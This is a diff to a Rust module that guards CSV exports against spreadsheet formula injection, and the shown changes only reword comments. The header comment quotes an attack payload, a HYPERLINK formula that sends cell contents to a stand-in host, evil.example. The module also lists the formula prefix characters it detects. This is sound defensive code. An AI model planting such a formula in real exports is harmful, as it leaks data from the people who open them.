@@ -1,27 +1,27 @@
 //! CSV injection: texts in an export cannot become spreadsheet formulas (CWE-1236, API8:2023).
 //!
-//! **Attack**: a customer is named `=HYPERLINK("https://evil.example?"&A1,"Click")`. A spreadsheet evaluates such a
-//! cell as a formula, with the rights of the person who opens the export.
+//! **Attack**: a customer is named `=HYPERLINK("https://evil.example?"&A1,"Click")`.
+//! A spreadsheet evaluates such a cell as a formula, with the rights of the person who opens the export.
 //! **Control**: the csv crate writes RFC 4180. Every text is quoted, so that a semicolon or a line break in a text does
-//! not start a new cell. A text that begins like a formula gets an apostrophe in front, also after leading spaces and
-//! for full-width characters.
-//! **Limits**: a program may remove the apostrophe and evaluate the rest.
+//! not start a new cell. A text that begins like a formula gets an apostrophe before its first character, which makes a
+//! spreadsheet treat it as text. This includes texts with leading spaces and with full-width characters such as `＝`.
+//! **Limits**: a program may remove the apostrophe and evaluate the remaining text.
 //! **ASVS**: 1.2.1, 1.2.10 · **Test**: `attacks::files::csv_injection`
 
 use std::borrow::Cow;
 
 use csv::{QuoteStyle, Terminator, Writer, WriterBuilder};
 
-/// The characters with which a formula can begin.
+/// The characters by which a spreadsheet recognizes a formula, at the beginning of a cell.
 const FORMULA_PREFIXES: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
 
-/// Creates a CSV writer that writes to memory.
+/// Creates a CSV writer that collects its output in memory.
 #[must_use]
 pub fn writer() -> Writer<Vec<u8>> {
     WriterBuilder::new().terminator(Terminator::CRLF).quote_style(QuoteStyle::NonNumeric).from_writer(Vec::new())
 }
 
-/// Escapes a text from a user, so that a spreadsheet does not evaluate it.
+/// Escapes a text that a user has entered, so that a spreadsheet does not evaluate it as a formula.
 #[must_use]
 pub fn escape_cell(text: &str) -> Cow<'_, str> {
     if text.trim_start_matches(' ').starts_with(FORMULA_PREFIXES) {
